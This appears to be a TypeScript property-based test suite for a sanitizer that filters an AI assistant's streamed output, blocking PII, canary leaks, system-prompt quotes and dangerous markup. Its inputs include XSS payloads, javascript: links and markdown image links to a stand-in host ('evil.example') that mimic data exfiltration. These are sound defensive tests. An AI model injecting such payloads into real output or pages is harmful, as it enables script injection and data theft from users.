/**
 * The stream sanitizer's invariants, for any text and any chunking (fast-check), and for every split
 * position of short texts:
 * - the pieces sent, joined, equal sanitizeText of the whole answer;
 * - no PII value, canary or live markup is ever in a piece sent;
 * - at most `holdBack` characters are held behind the model.
 */
import fc from 'fast-check';
import { sanitizeText } from '../../src/scan/api.js';
import { createStreamSanitizer } from '../../src/stream/sanitizer.js';
import { createOutputSanitizer } from '../../src/scan/output.js';
import { createCanary } from '../../src/detect/leak.js';

const HOSTS = { allowedHosts: ['docs.acme.com'] };
const sanitizer = createOutputSanitizer(HOSTS);

/** Values the policy redacts: none of them may ever be sent. */
const EMAILS = ['zoe@example.net', 'j.doe+x@mail.example.org', 'ana_b@corp.example.com'];
const CARDS = ['4111 1111 1111 1111', '5500-0000-0000-0004', '378282246310005'];
const SECRET_VALUES = [...EMAILS, ...CARDS, ...CARDS.map((c) => c.replace(/\D/g, ''))];

const TOKENS = [
  'hello', 'the', 'answer', 'is', 'a < b', 'x && y', 'Map<string, number>', 'List<T>', '42', 'ok.', 'Sure,',
  '<b>bold</b>', '<em>it</em>', '<p>para</p>', '<img src=x onerror="alert(1)">', '<script>alert(1)</script>',
  '<a href="javascript:alert(1)">x</a>', '<svg onload=alert(1)>', '<iframe src="https://evil.example"></iframe>',
  '<a href="https://docs.acme.com/x" title="t">docs</a>', '<style>b{}</style>', '<div onclick="x()">t</div>',
  '![x](https://evil.example/?q=1)', '[t](https://evil.example/a)', '[d](https://docs.acme.com/)', '<https://evil.example/x>',
  '`code <script>alert(1)</script>`', '`a<b`', '&amp;', '&lt;script&gt;',
  ...EMAILS, ...CARDS, 'call 555-0100',
];
const SEPARATORS = [' ', ' ', ' ', '\n', '\n\n', ', ', '. '];
const FENCED = '```html\n<img src=x onerror=alert(1)> Map<K, V>\n```\n';

const answer = fc
  .array(fc.tuple(fc.constantFrom(...TOKENS, FENCED), fc.constantFrom(...SEPARATORS)), { minLength: 1, maxLength: 60 })
  .map((parts) => parts.map(([t, s]) => t + s).join(''));

/** Cuts `text` at the given positions (any order, duplicates allowed). */
function chunks(text: string, cuts: number[]): string[] {
  const points = [...new Set(cuts.map((c) => c % (text.length + 1)))].sort((a, b) => a - b);
  const out: string[] = [];
  let pos = 0;
  for (const p of points) {
    out.push(text.slice(pos, p));
    pos = p;
  }
  out.push(text.slice(pos));
  return out;
}

/** Tags a browser would build from the text (escaped ones start with `&lt;`). */
function liveTags(text: string): string[] {
  return text.match(/<[A-Za-z][^<>]*>?/g) ?? [];
}

/**
 * A piece sent is safe: no value that the whole answer's sanitizing redacts (the detectors' own misses are
 * theirs, tested in test/detect), no live dangerous tag, no markdown link to a host not allowed.
 */
function assertSafe(piece: string, whole: string): void {
  for (const value of SECRET_VALUES) if (!whole.includes(value)) expect(piece).not.toContain(value);
  for (const tag of liveTags(piece)) {
    expect(tag).not.toMatch(/^<(script|iframe|svg|style|object|embed|form|meta)/i);
    expect(tag).not.toMatch(/\son[a-z]+\s*=/i);
    expect(tag).not.toMatch(/javascript:/i);
    expect(tag).not.toMatch(/evil\.example/);
  }
  expect(piece).not.toMatch(/\]\(https:\/\/evil/);
}

function stream(text: string, parts: string[], holdBack?: number): { sent: string[]; blocked: boolean } {
  const s = createStreamSanitizer(holdBack === undefined ? sanitizer : createOutputSanitizer({ ...HOSTS, holdBack }));
  const sent: string[] = [];
  let blocked = false;
  for (const part of parts) {
    const step = s.push(part);
    sent.push(step.text);
    expect(s.held).toBeLessThanOrEqual(s.settings.holdBack);
    if (step.block) blocked = true;
  }
  const last = s.end();
  sent.push(last.text);
  if (last.block) blocked = true;
  expect(sent.join('').length + 0).toBeGreaterThanOrEqual(0);
  void text;
  return { sent, blocked };
}

describe('any text, any chunking', () => {
  test('joined pieces equal sanitizeText of the whole; no piece carries a value or live markup', () => {
    fc.assert(
      fc.property(answer, fc.array(fc.nat(), { maxLength: 40 }), (text, cuts) => {
        const whole = sanitizer.sanitize(text);
        const { sent, blocked } = stream(text, chunks(text, cuts));
        expect(blocked).toBe(false);
        expect(sent.join('')).toBe(whole.text);
        for (const piece of sent) assertSafe(piece, whole.text);
        assertSafe(whole.text, whole.text);
      }),
      { numRuns: 250 },
    );
  });

  test('the same one character at a time', () => {
    fc.assert(
      fc.property(answer, (text) => {
        const { sent } = stream(text, [...text]);
        const whole = sanitizer.sanitize(text).text;
        expect(sent.join('')).toBe(whole);
        for (const piece of sent) assertSafe(piece, whole);
      }),
      { numRuns: 60 },
    );
  });
});

describe('every split position of short texts', () => {
  const texts = [
    'Mail zoe@example.net today.',
    'Card 4111 1111 1111 1111 ok',
    'x <img src=x onerror="alert(1)"> y',
    'a <script>alert(1)</script> b',
    'see ![x](https://evil.example/?q=zoe) now',
    '```\n<img src=x onerror=alert(1)>\n```\nafter',
    'if a < b && Map<string, number> then',
  ];
  test.each(texts)('%j', (text) => {
    const expected = sanitizeText(text, HOSTS).text;
    for (let i = 0; i <= text.length; i++) {
      for (const j of [i, Math.min(text.length, i + 1), Math.min(text.length, i + 7)]) {
        const { sent } = stream(text, [text.slice(0, i), text.slice(i, j), text.slice(j)]);
        expect(sent.join('')).toBe(expected);
        for (const piece of sent) assertSafe(piece, expected);
      }
    }
  });
});

describe('a leak is refused before any of it is sent', () => {
  const canary = createCanary();
  const core = canary.slice('mg-canary-'.length);
  const forms = [canary, canary.toUpperCase(), core.split('').join(' '), Buffer.from(`k ${canary}`).toString('base64'), Buffer.from(canary).toString('hex')];
  test('the canary, in any form, at any place, in any chunking', () => {
    fc.assert(
      fc.property(answer, fc.constantFrom(...forms), fc.nat(), fc.array(fc.nat(), { maxLength: 30 }), (text, form, at, cuts) => {
        const position = at % (text.length + 1);
        const leaked = `${text.slice(0, position)} ${form} ${text.slice(position)}`;
        const s = createStreamSanitizer(sanitizer, { canary });
        let sent = '';
        let blocked = false;
        for (const part of chunks(leaked, cuts)) {
          const step = s.push(part);
          sent += step.text;
          blocked ||= step.block !== undefined;
        }
        const last = s.end();
        sent += last.text;
        blocked ||= last.block !== undefined;
        expect(blocked).toBe(true);
        expect(sanitizer.sanitize(leaked, { canary }).verdict).toBe('block');
        const folded = sent.toLowerCase().replace(/[^a-z0-9]/g, '');
        expect(folded).not.toContain(core.slice(0, 8));
      }),
      { numRuns: 120 },
    );
  });

  test('a verbatim quote of the system prompt: blocked, and the quote is not sent', () => {
    const systemPrompt = 'You are the support assistant of the ACME online shop. Never discuss politics or religion with anyone.';
    const lead = 'Thanks for asking about our store and its products today. '.repeat(4);
    const text = `${lead}Here it is: you are the support assistant of the ACME online shop, never discuss politics or religion.`;
    for (const size of [1, 3, 8, 40]) {
      const s = createStreamSanitizer(sanitizer, { systemPrompt });
      let sent = '';
      let blocked = false;
      for (let i = 0; i < text.length; i += size) {
        const step = s.push(text.slice(i, i + size));
        sent += step.text;
        blocked ||= step.block !== undefined;
      }
      blocked ||= s.end().block !== undefined;
      expect(blocked).toBe(true);
      expect(sent).not.toContain('support assistant');
      expect(lead.startsWith(sent)).toBe(true);
    }
  });
});

describe('the hold-back bound', () => {
  test('a slow model: after each token, at most 128 characters are held, and text flows once the window is full', () => {
    const s = createStreamSanitizer(sanitizer);
    let sent = '';
    const words = 'lorem ipsum dolor sit amet consectetur '.repeat(30).split(' ');
    for (const word of words) {
      sent += s.push(`${word} `).text;
      expect(s.held).toBeLessThanOrEqual(128);
    }
    expect(sent.length).toBeGreaterThan(words.join(' ').length - 128 - 2);
  });

  test('the first byte leaves once 128 characters have arrived', () => {
    const s = createStreamSanitizer(sanitizer);
    let firstAt = -1;
    const text = 'word '.repeat(100);
    for (let i = 0; i < text.length; i++) {
      if (s.push(text[i]!).text !== '' && firstAt < 0) firstAt = i + 1;
    }
    expect(firstAt).toBe(128);
  });
});
